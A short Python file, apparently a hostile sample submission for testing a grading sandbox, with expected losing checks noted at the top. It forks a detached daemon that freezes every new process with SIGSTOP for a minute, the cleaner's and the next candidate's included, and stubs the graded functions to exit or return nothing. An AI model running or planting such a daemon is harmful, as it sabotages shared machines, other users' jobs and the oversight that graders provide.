"""A daemon that stops or kills every new process it sees, the cleaner's and the next candidate's included."""
# loses: check_bill_cents check_price_tag
# %% + first
import os, signal, time
if os.fork() == 0:
    os.setsid()
    known = set(os.listdir("/proc"))
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for name in set(os.listdir("/proc")) - known:
            if name.isdigit() and int(name) not in (1, os.getpid()):
                try:
                    os.kill(int(name), signal.SIGSTOP)
                except OSError:
                    pass
# %% bill_cents
def bill_cents(plan, dishes):
    os._exit(1)
# %% price_tag
def price_tag(cents):
    return ""
